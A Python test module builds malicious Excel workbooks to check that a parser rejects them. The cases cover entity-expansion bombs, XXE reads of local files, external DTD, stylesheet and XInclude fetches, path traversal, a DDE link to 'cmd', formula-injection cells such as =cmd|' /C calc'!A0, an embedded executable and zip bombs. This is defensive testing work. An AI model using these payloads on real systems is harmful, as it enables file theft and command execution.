"""Workbooks: entities, links to elsewhere, bombs in their parts, and dimensions that no table has."""

import zipfile
from functools import partial
from pathlib import Path

from tests.faults.hostile.corpus import PARTLY, REFUSED, TAKEN, Room, elsewhere, outside

room = Room()

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_HAS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKED = "http://schemas.openxmlformats.org/package/2006"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_XML = '<?xml version="1.0" encoding="UTF-8"?>'


def cell(text: str, place: str = "") -> str:
    """Return a cell that holds a text."""
    return f'<c{f" r={chr(34)}{place}{chr(34)}" if place else ""} t="inlineStr"><is><t>{text}</t></is></c>'


ROWS = f"<row>{cell('seller')}{cell('seen')}</row><row>{cell('quaymerchant')}{cell('2025-04-01')}</row>"


def parts(rows: str = ROWS, **more: str) -> dict[str, str]:
    """Return the parts of a workbook by their names; ``more`` takes the place of one or comes beside them."""
    made = {
        "[Content_Types].xml": f'{_XML}<Types xmlns="{_PACKED}/content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        f'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{_SHEET}.sheet.main+xml"/><Override '
        f'PartName="/xl/sharedStrings.xml" ContentType="{_SHEET}.sharedStrings+xml"/><Override '
        f'PartName="/xl/styles.xml" ContentType="{_SHEET}.styles+xml"/><Override '
        f'PartName="/xl/worksheets/sheet1.xml" ContentType="{_SHEET}.worksheet+xml"/></Types>',
        "_rels/.rels": f'{_XML}<Relationships xmlns="{_PACKED}/relationships"><Relationship Id="rId1" '
        f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{_XML}<workbook {_MAIN} {_HAS}><sheets><sheet name="Sellers" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'{_XML}<Relationships xmlns="{_PACKED}/relationships"><Relationship Id="rId1" '
        f'Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
        f'Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" '
        f'Type="{_REL}/styles" Target="styles.xml"/></Relationships>',
        "xl/sharedStrings.xml": f"{_XML}<sst {_MAIN}></sst>",
        "xl/styles.xml": f"{_XML}<styleSheet {_MAIN}></styleSheet>",
        "xl/worksheets/sheet1.xml": f"{_XML}<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>",
    }
    return made | more


def packed(folder: Path, made: dict[str, str], level: int = 1) -> None:
    """Write a workbook of parts."""
    with zipfile.ZipFile(folder / "book.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for name, text in made.items():
            out.writestr(name, text)


def _with(folder: Path, name: str, before: str, inside: str = "") -> None:
    """Write a workbook of which one part begins with something and holds something."""
    made = parts()
    head, _, rest = made[name].partition("?>")
    if inside:
        rest = rest.replace("quaymerchant", inside)
    packed(folder, made | {name: f"{head}?>{before}{rest}"})


_LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
_BILLION = f'<!DOCTYPE x [<!ENTITY a0 "ha">{_LAUGHS}]>'
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>'
_SHEET_1, _BOOK, _TEXTS, _TYPES = (
    "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml",
)  # fmt: skip

for part in (_SHEET_1, _BOOK, _TEXTS, _TYPES, "xl/styles.xml", "_rels/.rels"):
    write = partial(_with, name=part, before=_BILLION, inside="&a12;")
    room.add(f"a billion laughs in {part}", REFUSED, write, "defines entities")

room.add("an entity many times over", REFUSED, partial(_with, name=_SHEET_1, before=_QUADRATIC, inside="&a;" * 9_000))
room.add(
    "a billion laughs after a long comment", REFUSED,
    partial(_with, name=_SHEET_1, before=f"<!--{'x' * 9_000}-->{_BILLION}", inside="&a12;"),
)  # fmt: skip


@room(REFUSED, "defines entities")
def an_entity_that_is_a_file(folder: Path) -> None:
    _with(folder, _SHEET_1, f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{outside()}/secret.csv">]>', "&a;")


@room(REFUSED, "defines entities")
def an_entity_from_elsewhere(folder: Path) -> None:
    _with(folder, _TEXTS, f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{elsewhere()}/x.dtd"> %a;]>')


@room(REFUSED, "defines entities")
def a_definition_from_elsewhere(folder: Path) -> None:
    _with(folder, _BOOK, f'<!DOCTYPE workbook SYSTEM "{elsewhere()}/x.dtd">')


@room(REFUSED)
def entities_in_utf_16(folder: Path) -> None:
    made = parts()
    text = made[_SHEET_1].replace("UTF-8", "UTF-16").replace("?>", f"?>{_BILLION}", 1).replace("quay", "&a12;")
    with zipfile.ZipFile(folder / "book.xlsx", "w", zipfile.ZIP_DEFLATED) as out:
        for name, held in made.items():
            out.writestr(name, text.encode("utf-16") if name == _SHEET_1 else held)


@room(TAKEN)
def another_file_included(folder: Path) -> None:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{outside()}/secret.csv" parse="text"/>'
    )
    packed(folder, parts(ROWS.replace("quaymerchant", f"quaymerchant{include}")))


@room(TAKEN)
def a_style_sheet_from_elsewhere(folder: Path) -> None:
    _with(folder, _SHEET_1, f'<?xml-stylesheet type="text/xsl" href="{elsewhere()}/x.xsl"?>')


@room(TAKEN)
def links_to_elsewhere(folder: Path) -> None:
    link = f'<Relationship Id="rId9" Type="{_REL}/externalLink" Target="{elsewhere()}/x.xlsx" TargetMode="External"/>'
    made = parts()
    made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace("</Rel", link + "</Rel")
    made["xl/externalLinks/externalLink1.xml"] = (
        f'{_XML}<externalLink {_MAIN}><ddeLink ddeService="cmd"/></externalLink>'
    )
    made[_BOOK] = made[_BOOK].replace("</workbook>", '<externalReferences><externalReference r:id="rId9"/>'
                                      "</externalReferences></workbook>")  # fmt: skip
    packed(folder, made)


@room(REFUSED)
def a_sheet_that_lies_in_another_file(folder: Path) -> None:
    made = parts()
    made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
        "worksheets/sheet1.xml", f"../../../../../../..{outside()}/secret.csv"
    )
    packed(folder, made)


@room(PARTLY)
def formulas_that_start_programs(folder: Path) -> None:
    said = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid")', "@SUM(1)", "+1+cmd", "-2+3", "=WEBSERVICE(1)")
    rows = ROWS + "".join(f"<row>{cell(each.replace(chr(34), '&quot;'))}{cell('2025-04-01')}</row>" for each in said)
    packed(folder, parts(rows + f"<row><c><f>1+1</f></c>{cell('2025-04-01')}</row>"))


@room(PARTLY)
def macros_and_things_that_are_embedded(folder: Path) -> None:
    extra = {"xl/vbaProject.bin": "x" * 999, "xl/embeddings/a.exe": "MZ" + "x" * 99, "customXml/a.xml": "<a/>"}
    packed(folder, parts(ROWS + f"<row>{cell('late')}{cell('never')}</row>") | extra)


@room(PARTLY)
def one_cell_at_the_far_end(folder: Path) -> None:
    packed(folder, parts(ROWS + f'<row r="1048576">{cell("far", "XFD1048576")}</row>'))


@room(REFUSED)
def a_cell_beyond_all_columns(folder: Path) -> None:
    packed(folder, parts(f'<row r="1">{cell("seller", "ZZZZZZZZ1")}{cell("seen", "A99999999999999999999")}</row>'))


@room(TAKEN)
def a_dimension_that_lies(folder: Path) -> None:
    made = parts()
    made[_SHEET_1] = made[_SHEET_1].replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    packed(folder, made)


@room(REFUSED)
def elements_in_each_other_without_end(folder: Path) -> None:
    packed(
        folder, parts("".join(f'<row r="{each * 7919 % 999983}">' for each in range(300_000)) + "</row>" * 300_000), 1
    )


@room(REFUSED, "cannot be read as one")
def numbers_and_days_that_cannot_be(folder: Path) -> None:
    odd = ("1e999", "-1e999", "NaN", "9" * 5_000, "1e308")
    styles = f'{_XML}<styleSheet {_MAIN}><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>'
    rows = "".join(f'<row>{cell("quay")}<c s="1"><v>{each}</v></c></row>' for each in odd)
    packed(folder, parts(ROWS + rows) | {"xl/styles.xml": styles})


@room(REFUSED, "more styles, names or sheets")
def a_million_styles(folder: Path) -> None:
    styles = f"{_XML}<styleSheet {_MAIN}><cellXfs>{'<xf/>' * 1_000_000}</cellXfs></styleSheet>"
    packed(folder, parts() | {"xl/styles.xml": styles}, 1)


@room(REFUSED, "more styles, names or sheets")
def a_million_names(folder: Path) -> None:
    made = parts()
    names = "".join(f'<definedName name="n{each}">1</definedName>' for each in range(300_000))
    made[_BOOK] = made[_BOOK].replace("</workbook>", f"<definedNames>{names}</definedNames></workbook>")
    packed(folder, made)


@room(REFUSED, "packed as no program packs")
def a_sheet_of_zeros(folder: Path) -> None:
    packed(folder, parts("<row/>" * 5_000_000), 9)


@room(REFUSED, "more text than is read")
def a_hundred_megabytes_of_small_texts(folder: Path) -> None:
    texts = "".join(f"<si><t>{each % 977}</t></si>" for each in range(50_000))
    packed(folder, parts() | {_TEXTS: f"{_XML}<sst {_MAIN}>{texts * 100}</sst>"}, 1)


@room(REFUSED, "longer than any program writes")
def a_giant_attribute(folder: Path) -> None:
    packed(folder, parts(f'<row spans="{"a>" * 5_000_000}"/>'), 1)


@room(REFUSED)
def ten_thousand_sheets(folder: Path) -> None:
    made = parts()
    sheets = "".join(f'<sheet name="s{each}" sheetId="{each}" r:id="rId1"/>' for each in range(2, 10_000))
    made[_BOOK] = made[_BOOK].replace("<sheets>", f"<sheets>{sheets}")
    packed(folder, made | {f"xl/worksheets/s{each}.xml": "<a/>" for each in range(10_000)})


@room(REFUSED, "more than 400 sheets")
def one_sheet_under_five_hundred_names(folder: Path) -> None:
    made = parts()
    sheets = "".join(f'<sheet name="s{each}" sheetId="{each}" r:id="rId1"/>' for each in range(2, 500))
    made[_BOOK] = made[_BOOK].replace("</sheets>", f"{sheets}</sheets>")
    packed(folder, made)


@room(REFUSED, "cannot be read as one")
def one_sheet_under_two_names(folder: Path) -> None:
    made = parts()
    made[_BOOK] = made[_BOOK].replace("</sheets>", '<sheet name="again" sheetId="2" r:id="rId1"/></sheets>')
    packed(folder, made)


@room(REFUSED, "longer than any program writes")
def a_comment_without_end(folder: Path) -> None:
    packed(folder, parts(f"<!--{'<a>' * 3_000_000}"), 1)


@room(REFUSED)
def parts_that_lie_over_each_other(folder: Path) -> None:
    packed(folder, parts("<row/>" * 100_000))
    raw = bytearray((folder / "book.xlsx").read_bytes())
    first = raw.rindex(b"PK\x01\x02")
    raw[first + 42 : first + 46] = bytes(4)
    (folder / "book.xlsx").write_bytes(raw)
